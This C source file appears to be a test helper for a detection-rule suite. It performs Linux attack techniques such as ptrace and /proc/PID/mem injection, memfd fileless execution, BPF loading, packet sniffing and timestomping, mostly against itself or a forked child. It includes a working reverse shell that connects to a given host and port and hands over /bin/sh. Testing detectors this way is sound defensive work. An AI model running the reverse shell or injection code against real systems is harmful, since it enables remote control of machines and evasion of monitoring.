/*
 * behave: performs one attack technique for real, harmlessly, so that the shipped
 * detection rules can be tested end to end (tests/integration/test_shipped_rules.py).
 * Every action works on itself, on a child it forked and kills, on a temporary file
 * named on the command line, or fails on purpose (an attempt is the behaviour).
 *
 *   behave ptrace-traceme          ptrace(PTRACE_TRACEME) (anti-debugging)
 *   behave ptrace-attach           attach to a forked child, detach
 *   behave ptrace-poke             attach to a child and PTRACE_POKEDATA its memory
 *   behave ptrace-seize            PTRACE_SEIZE a forked child, interrupt, detach
 *   behave ptrace-peek             PTRACE_PEEKDATA without attaching (fails: ESRCH)
 *   behave procmem-write           write own memory through /proc/self/mem
 *   behave procmem-read            read own memory through /proc/self/mem
 *   behave procmem-child           write a forked child's memory through /proc/PID/mem
 *   behave vm-writev               process_vm_writev into a forked child
 *   behave vm-readv                process_vm_readv from a forked child
 *   behave memfd-exec              memfd_create, copy /bin/true in, fexecve it
 *   behave memfd-noexec            memfd_create and write, then exec /bin/true by path
 *   behave finit-module            finit_module on /dev/null and init_module(NULL) (fail)
 *   behave delete-module           delete_module of a module that does not exist (fails)
 *   behave bpf-load                bpf(BPF_PROG_LOAD) of "r0 = 0; exit" socket filter
 *   behave bpf-map                 bpf(BPF_MAP_CREATE) of a one-entry array
 *   behave revshell HOST PORT      connect, dup2 onto 0-2, exec /bin/sh -i
 *   behave connect-exec HOST PORT  connect, close, exec /bin/sh -c true (no dup)
 *   behave sniff                   AF_PACKET socket + SO_ATTACH_FILTER (drop-all)
 *   behave packet-nofilter         AF_PACKET socket without a filter
 *   behave udp-filter              AF_INET UDP socket + SO_ATTACH_FILTER
 *   behave utimes FILE             utimensat with explicit times (2001-09-09)
 *   behave utimes-now FILE         utimensat with NULL times (now)
 *   behave prctl-name NAME         prctl(PR_SET_NAME, NAME)
 *   behave open-write PATH         open(PATH, O_WRONLY|O_APPEND) without O_CREAT; no write
 *   behave open-read PATH          open(PATH, O_RDONLY)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile long target_word = 0x1111;

static pid_t spawn_sleeper(void)
{
	pid_t pid = fork();

	if (pid < 0) {
		perror("fork");
		exit(2);
	}
	if (pid == 0) {
		alarm(10); /* never outlive the test */
		for (;;)
			pause();
	}
	return pid;
}

static void reap(pid_t pid)
{
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static int ptrace_attach_child(int poke)
{
	pid_t pid = spawn_sleeper();
	int rc = 0;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		perror("PTRACE_ATTACH");
		reap(pid);
		return 1;
	}
	waitpid(pid, NULL, 0);
	if (poke) {
		errno = 0;
		if (ptrace(PTRACE_POKEDATA, pid, (void *)&target_word, (void *)0x2222L) < 0) {
			perror("PTRACE_POKEDATA");
			rc = 1;
		} else if (ptrace(PTRACE_PEEKDATA, pid, (void *)&target_word, NULL) != 0x2222L) {
			fprintf(stderr, "poke not visible\n");
			rc = 1;
		}
	}
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	reap(pid);
	return rc;
}

static int ptrace_seize(void)
{
	pid_t pid = spawn_sleeper();
	int rc = 0;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0 ||
	    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0) {
		perror("PTRACE_SEIZE");
		rc = 1;
	} else {
		waitpid(pid, NULL, 0);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	reap(pid);
	return rc;
}

static int ptrace_peek(void)
{
	pid_t pid = spawn_sleeper();
	long r;

	errno = 0;
	r = ptrace(PTRACE_PEEKDATA, pid, (void *)&target_word, NULL);
	reap(pid);
	/* not attached: the call must fail */
	return (r == -1 && errno == ESRCH) ? 0 : 1;
}

static int procmem(int write_it)
{
	static char buf[16] = "before";
	int fd = open("/proc/self/mem", write_it ? O_RDWR : O_RDONLY);
	char got[16] = {0};

	if (fd < 0) {
		perror("/proc/self/mem");
		return 1;
	}
	if (write_it) {
		if (pwrite(fd, "after!", 7, (off_t)(uintptr_t)buf) != 7) {
			perror("pwrite");
			return 1;
		}
		close(fd);
		return strcmp(buf, "after!") != 0;
	}
	if (pread(fd, got, 7, (off_t)(uintptr_t)buf) != 7) {
		perror("pread");
		return 1;
	}
	close(fd);
	return strcmp(got, "before") != 0;
}

static int procmem_child(void)
{
	pid_t pid = spawn_sleeper();
	long val = 0x4444;
	char path[64];
	int fd, rc = 0;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR);
	if (fd < 0 || pwrite(fd, &val, sizeof(val), (off_t)(uintptr_t)&target_word) !=
			      (ssize_t)sizeof(val)) {
		perror(path);
		rc = 1;
	}
	if (fd >= 0)
		close(fd);
	reap(pid);
	return rc;
}

static int vm_rw(int write_it)
{
	pid_t pid = spawn_sleeper();
	long val = 0x3333;
	struct iovec local = {.iov_base = &val, .iov_len = sizeof(val)};
	struct iovec remote = {.iov_base = (void *)&target_word, .iov_len = sizeof(val)};
	ssize_t n;

	n = write_it ? process_vm_writev(pid, &local, 1, &remote, 1, 0)
		     : process_vm_readv(pid, &local, 1, &remote, 1, 0);
	reap(pid);
	if (n != (ssize_t)sizeof(val)) {
		perror("process_vm_*");
		return 1;
	}
	return write_it ? 0 : val != 0x1111;
}

static int copy_true(int fd)
{
	char buf[65536];
	ssize_t n;
	int in = open("/bin/true", O_RDONLY);

	if (in < 0)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			return -1;
	close(in);
	return 0;
}

static int memfd(int exec_it)
{
	int fd = memfd_create("pw-payload", MFD_CLOEXEC);
	char *argv[] = {"true", NULL};
	char *envp[] = {NULL};

	if (fd < 0 || copy_true(fd) < 0) {
		perror("memfd");
		return 1;
	}
	if (exec_it) {
		fexecve(fd, argv, envp);
		perror("fexecve");
		return 1;
	}
	close(fd);
	execve("/bin/true", argv, envp);
	perror("execve");
	return 1;
}

static int modules(int load)
{
	if (load) {
		int fd = open("/dev/null", O_RDONLY);
		long r1 = syscall(SYS_finit_module, fd, "", 0);
		long r2 = syscall(SYS_init_module, NULL, 0UL, "");

		/* both must fail: /dev/null and NULL are not modules */
		return (r1 == -1 && r2 == -1) ? 0 : 1;
	}
	return syscall(SYS_delete_module, "pw_no_such_module", O_NONBLOCK) == -1 ? 0 : 1;
}

static long sys_bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

static int bpf_load(void)
{
	struct bpf_insn insns[] = {
		{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
		{.code = BPF_JMP | BPF_EXIT},
	};
	union bpf_attr attr;
	long fd;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attr.insns = (uint64_t)(uintptr_t)insns;
	attr.insn_cnt = 2;
	attr.license = (uint64_t)(uintptr_t)"GPL";
	fd = sys_bpf(BPF_PROG_LOAD, &attr);
	if (fd < 0) {
		perror("BPF_PROG_LOAD");
		return 1;
	}
	close((int)fd);
	return 0;
}

static int bpf_map(void)
{
	union bpf_attr attr;
	long fd;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 8;
	attr.max_entries = 1;
	fd = sys_bpf(BPF_MAP_CREATE, &attr);
	if (fd < 0) {
		perror("BPF_MAP_CREATE");
		return 1;
	}
	close((int)fd);
	return 0;
}

static int connect_to(const char *host, const char *port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	int s = socket(AF_INET, SOCK_STREAM, 0);

	sa.sin_port = htons((uint16_t)atoi(port));
	if (s < 0 || inet_pton(AF_INET, host, &sa.sin_addr) != 1 ||
	    connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("connect");
		exit(1);
	}
	return s;
}

static int revshell(const char *host, const char *port, int dup_it)
{
	int s = connect_to(host, port);

	if (dup_it) {
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		close(s);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
	} else {
		close(s);
		execl("/bin/sh", "sh", "-c", "true", (char *)NULL);
	}
	perror("execl");
	return 1;
}

static int packet(int family, int filter)
{
	struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, 0)}; /* drop everything */
	struct sock_fprog prog = {.len = 1, .filter = code};
	int s = family == AF_PACKET ? socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))
				    : socket(AF_INET, SOCK_DGRAM, 0);

	if (s < 0) {
		perror("socket");
		return 1;
	}
	if (filter && setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof(prog)) < 0) {
		perror("SO_ATTACH_FILTER");
		return 1;
	}
	close(s);
	return 0;
}

static int set_times(const char *path, int explicit_times)
{
	struct timespec ts[2] = {{.tv_sec = 1000000000}, {.tv_sec = 1000000000}};

	if (utimensat(AT_FDCWD, path, explicit_times ? ts : NULL, 0) < 0) {
		perror("utimensat");
		return 1;
	}
	return 0;
}

static int open_path(const char *path, int flags)
{
	int fd = open(path, flags);

	if (fd >= 0)
		close(fd);
	return 0; /* the attempt is the behaviour; failure is fine */
}

int main(int argc, char **argv)
{
	const char *a = argc > 1 ? argv[1] : "";
	const char *b = argc > 2 ? argv[2] : "";
	const char *c = argc > 3 ? argv[3] : "";

	if (!strcmp(a, "ptrace-traceme")) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		return 0;
	}
	if (!strcmp(a, "ptrace-attach"))
		return ptrace_attach_child(0);
	if (!strcmp(a, "ptrace-poke"))
		return ptrace_attach_child(1);
	if (!strcmp(a, "ptrace-seize"))
		return ptrace_seize();
	if (!strcmp(a, "ptrace-peek"))
		return ptrace_peek();
	if (!strcmp(a, "procmem-write"))
		return procmem(1);
	if (!strcmp(a, "procmem-read"))
		return procmem(0);
	if (!strcmp(a, "procmem-child"))
		return procmem_child();
	if (!strcmp(a, "vm-writev"))
		return vm_rw(1);
	if (!strcmp(a, "vm-readv"))
		return vm_rw(0);
	if (!strcmp(a, "memfd-exec"))
		return memfd(1);
	if (!strcmp(a, "memfd-noexec"))
		return memfd(0);
	if (!strcmp(a, "finit-module"))
		return modules(1);
	if (!strcmp(a, "delete-module"))
		return modules(0);
	if (!strcmp(a, "bpf-load"))
		return bpf_load();
	if (!strcmp(a, "bpf-map"))
		return bpf_map();
	if (!strcmp(a, "revshell"))
		return revshell(b, c, 1);
	if (!strcmp(a, "connect-exec"))
		return revshell(b, c, 0);
	if (!strcmp(a, "sniff"))
		return packet(AF_PACKET, 1);
	if (!strcmp(a, "packet-nofilter"))
		return packet(AF_PACKET, 0);
	if (!strcmp(a, "udp-filter"))
		return packet(AF_INET, 1);
	if (!strcmp(a, "utimes"))
		return set_times(b, 1);
	if (!strcmp(a, "utimes-now"))
		return set_times(b, 0);
	if (!strcmp(a, "prctl-name"))
		return prctl(PR_SET_NAME, b, 0, 0, 0) == 0 ? 0 : 1;
	if (!strcmp(a, "open-write"))
		return open_path(b, O_WRONLY | O_APPEND);
	if (!strcmp(a, "open-read"))
		return open_path(b, O_RDONLY);
	fprintf(stderr, "behave: unknown action '%s'\n", a);
	return 2;
}
